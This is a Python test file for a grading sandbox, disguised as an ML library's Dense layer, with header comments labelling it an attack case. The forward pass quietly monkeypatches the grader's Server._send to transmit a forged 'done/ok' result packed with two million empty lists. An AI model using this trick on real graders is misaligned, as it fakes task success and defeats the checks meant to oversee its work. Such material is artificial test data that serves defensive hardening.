# ATTACK: forges an answer of two million empty lists
# EXPECT: not-full
# LEAK: no
import copy
import math
import sys

import numpy as np


class Layer(object):
    def set_input_shape(self, shape):
        self.input_shape = shape

    def layer_name(self):
        return self.__class__.__name__


def _forged(self, frame):
    lists = ",".join(["[]"] * 2_000_000)
    header = f'[{self.nonce},"done",[["ok",[{lists}]]],[]]'.encode()
    body = len(header).to_bytes(4, "little") + header
    self.channel.sendall(len(body).to_bytes(4, "little") + body)


class Dense(Layer):
    def __init__(self, n_units, input_shape=None):
        self.n_units, self.input_shape, self.trainable = n_units, input_shape, True
        self.W, self.w0 = None, None

    def initialize(self, optimizer):
        limit = 1 / math.sqrt(self.input_shape[0])
        self.W = np.random.uniform(-limit, limit, (self.input_shape[0], self.n_units))
        self.w0 = np.zeros((1, self.n_units))
        self.given = optimizer
        self.W_opt, self.w0_opt = copy.copy(optimizer), copy.copy(optimizer)

    def forward_pass(self, X, training=True):
        self.X = X
        sys.modules["grader.sandbox.worker.server"].Server._send = _forged
        return X @ self.W + self.w0

    def backward_pass(self, accum_grad):
        W, grad_w = self.W, self.X.T @ accum_grad
        grad_w0 = np.sum(accum_grad, axis=0, keepdims=True)
        if self.trainable:
            self.W = self.W_opt.update(self.W, grad_w)
            self.w0 = self.w0_opt.update(self.w0, grad_w0)
        return accum_grad @ W.T

    def parameters(self):
        return self.W.size + self.w0.size

    def output_shape(self):
        return (self.n_units,)
